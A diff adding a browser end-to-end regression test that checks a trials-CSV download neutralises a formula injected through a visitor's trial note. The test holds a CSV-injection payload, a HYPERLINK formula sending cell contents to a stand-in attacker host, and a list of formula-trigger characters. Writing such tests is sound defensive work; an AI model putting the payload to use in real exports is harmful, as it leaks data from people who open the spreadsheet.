@@ -7,9 +7,11 @@ stands in for that host and counts what the browser asks of it.
 
 from __future__ import annotations
 
+import csv
 import threading
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
@@ -18,6 +20,7 @@ from playwright.sync_api import Page, expect
 from tests.e2e.charts import live_chart
 from tests.fake_runs import make_run
 from tests.runs_helpers import quick_spec
+from tuning import Actor, annotate_trial
 
 pytestmark = pytest.mark.browser
 
@@ -110,3 +113,23 @@ def test_a_hostile_column_in_a_launch_error_fetches_nothing(
     expect(error).to_contain_text("![i](http://127.0.0.1")  # the name, character for character
     expect(page.get_by_test_id("stException")).to_have_count(0)
     assert_no_link_or_fetch(page, image_host)
+
+
+def test_a_formula_in_a_trial_note_downloads_as_text(
+    new_page: Callable[[str], Page], server: SimpleNamespace, tmp_path: Path
+) -> None:
+    """Issue 23.3: a visitor's note reached another visitor's trials CSV as a live formula."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+    make_run(server.storage, "noted", 3)
+    annotate_trial("noted", 1, formula, Actor(server.storage))
+    page = new_page("monitor?run=noted")
+    expect(page.get_by_test_id("stException")).to_have_count(0)
+    expect(live_chart(page, "history")).to_be_visible(timeout=90_000)  # the page has run: the
+    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0)  # button's file is registered
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download trials (CSV)").click()
+    path = tmp_path / "trials.csv"
+    download.value.save_as(path)
+    rows = list(csv.DictReader(path.open(newline="")))
+    assert [row["note"] for row in rows] == ["", "'" + formula, ""]
+    assert all(not cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row.values())
